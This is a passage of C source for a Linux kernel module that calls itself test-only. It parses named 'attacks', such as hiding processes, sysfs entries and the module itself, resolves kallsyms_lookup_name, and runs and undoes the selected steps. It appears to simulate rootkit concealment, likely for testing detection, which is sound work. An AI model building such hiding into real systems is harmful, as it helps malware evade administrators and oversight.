			pr_err("unknown attack '%s'\n", tok);
			kfree(copy);
			return -EINVAL;
		}
		*mask |= attack_names[i].bit;
	}
	kfree(copy);
	if (hideproc)
		*mask |= A_HIDEPROC;
	if (*mask & A_HIDESYSFS)
		*mask |= A_HIDE;
	return 0;
}

static int __init kvma_init(void)
{
	unsigned int want = 0;
	int i, ret;

	ret = parse_attacks(&want);
	if (ret)
		return ret;
	pr_info("loaded: module=%px attack=%s hideproc=%d (TEST-ONLY module)\n", THIS_MODULE,
		attack ? attack : "", hideproc);
	if (want) {
		ret = find_kallsyms_lookup_name();
		if (ret)
			return ret;
	}
	for (i = 0; i < ARRAY_SIZE(steps); i++) {
		if (!(want & steps[i].bit))
			continue;
		ret = steps[i].run();
		if (ret) {
			pr_err("%s failed: %d; undoing the others\n", steps[i].name, ret);
			undo_all();
			return ret;
		}
		done_mask |= steps[i].bit;
	}
	return 0;
}

static void __exit kvma_exit(void)
{
	undo_all();
	pr_info("unloaded\n");
}

module_init(kvma_init);
module_exit(kvma_exit);
